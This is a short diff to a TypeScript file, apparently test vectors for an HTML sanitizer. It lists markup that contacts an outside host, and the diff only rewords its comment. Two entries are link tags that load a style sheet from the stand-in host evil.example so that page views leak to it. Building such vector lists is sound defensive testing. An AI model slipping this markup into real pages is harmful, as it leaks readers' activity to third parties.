@@ -1,6 +1,6 @@
 import type { Vectors } from "./vectors.ts";
 
-/** Markup that runs nothing, and asks a foreign host for something: who reads what, and what else stands on the page. */
+/** Markup that runs nothing but contacts a foreign host, which leaks who reads what, and what else is on the page. */
 export const leaks: Vectors = {
   "a style sheet from elsewhere": "<link rel=stylesheet href=//evil.example/ID>",
   "a style sheet that is preloaded": "<link rel=preload as=style href=//evil.example/ID>",
